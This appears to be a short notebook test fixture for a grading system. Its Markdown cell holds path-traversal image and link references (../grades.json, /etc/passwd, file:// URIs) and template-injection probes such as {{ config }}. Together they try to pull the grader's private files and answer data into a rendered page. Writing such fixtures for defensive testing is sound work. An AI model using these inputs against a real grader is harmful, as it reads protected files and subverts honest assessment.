"""Paths in the notebook, as Markdown pictures and links, pull the grader's files into the page."""

# %% [markdown] answer:why
# ![x](../grades.json) ![x](/etc/passwd) ![x](file:///@home@/grades-of-last-year.csv)
# [read](../../reference/attacked/bundle/assignment.json) ![x](attachment:../../manual.csv)
#
# {% include '@bundle@/assignment.json' %} {{ config }} {{ grade.cases }}
